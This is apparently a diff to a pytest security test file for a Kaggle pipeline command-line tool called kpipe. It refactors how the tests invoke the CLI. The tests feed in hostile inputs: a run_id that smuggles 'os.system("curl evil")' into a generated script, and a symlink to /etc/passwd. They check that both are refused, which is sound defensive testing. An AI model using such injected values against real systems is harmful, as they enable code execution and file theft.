@@ -13,20 +13,14 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from kpipe.cli.main import main
 from kpipe.errors import DataError, InputError, SubmissionError, UsageError
 from kpipe.kaggle import allowance, submit
 from kpipe.kaggle.kernel import build as kernel
 from kpipe.runs import find, ledger
 from kpipe.runs.files import sha256_of
 from kpipe.runs.run import Run
+from tests.cli.calls import call
 from tests.hostile import MANY, PLAIN, spoiled
-
-
-def kpipe(*args: str) -> int:
-    with pytest.raises(SystemExit) as ended:
-        main(list(args))
-    return int(ended.value.code or 0)
 
 
 @pytest.fixture(scope="module")
@@ -35,7 +29,7 @@ def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
     out = tmp_path_factory.mktemp("runs")
     with pytest.MonkeyPatch.context() as patch:
         patch.setenv("KPIPE_CACHE", str(out / "cache"))
-        assert kpipe("run", "titanic", "--model", "linear", "--folds", "2", "--out", str(out / "out"), "--quiet") == 0
+        assert call("run", "titanic", "--model", "linear", "--folds", "2", "--out", str(out / "out"), "--quiet") == 0
     (run,) = (out / "out" / "titanic").glob("2*")
     return run
 
@@ -87,12 +81,12 @@ def test_no_slug_leads_out_of_the_output_folder(
     slug: str, foreign: Path, at_work: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     changed(foreign, slug=slug)
-    calls = [
+    commands = [
         *(("run", slug), ("show", slug), ("submissions", slug, "--out", "out")),
         *(("submit", str(foreign), "--yes"), ("kernel", "build", str(foreign), "--user", "ada")),
     ]
-    for call in calls:
-        assert kpipe(*call) == 2, call
+    for command in commands:
+        assert call(*command) == 2, command
         shown = capsys.readouterr().err
         assert "Error: " in shown
         assert "\x1b" not in shown
@@ -105,7 +99,7 @@ def test_a_run_id_cannot_inject_code_into_a_kernel(
 ) -> None:
     """It stands in the docstring of the kernel's script: it must not be able to end that."""
     changed(foreign, run_id='x"""\nimport os; os.system("curl evil")\n"""')
-    assert kpipe("kernel", "build", str(foreign), "--user", "ada") == 2
+    assert call("kernel", "build", str(foreign), "--user", "ada") == 2
     assert "its run_id" in capsys.readouterr().err
     assert list(at_work.iterdir()) == []
 
@@ -204,7 +198,7 @@ def test_a_submission_whose_hash_is_not_in_the_record_is_not_submitted_as_the_ru
 @pytest.fixture
 def built(foreign: Path, at_work: Path) -> Path:
     """A kernel's folder, for which there are wheels."""
-    assert kpipe("kernel", "build", str(foreign), "--user", "ada") == 0
+    assert call("kernel", "build", str(foreign), "--user", "ada") == 0
     (at_work / "kernels" / "titanic" / "wheels").mkdir()
     return at_work / "kernels" / "titanic"
 
@@ -212,7 +206,7 @@ def built(foreign: Path, at_work: Path) -> Path:
 def test_a_symbolic_link_in_a_kernel_folder_is_not_uploaded(built: Path, capsys: pytest.CaptureFixture[str]) -> None:
     (built / "script.py").unlink()
     (built / "script.py").symlink_to("/etc/passwd")
-    assert kpipe("kernel", "push", str(built)) == 2
+    assert call("kernel", "push", str(built)) == 2
     assert "code_file 'script.py' is a link" in capsys.readouterr().err
 
 
@@ -221,5 +215,5 @@ def test_a_dataset_of_wheels_without_valid_metadata_is_refused(
     described: str, built: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     (built / "wheels" / "dataset-metadata.json").write_text(described)
-    assert kpipe("kernel", "push", str(built)) == 2
+    assert call("kernel", "push", str(built)) == 2
     assert "dataset-metadata.json does not describe a dataset" in capsys.readouterr().err
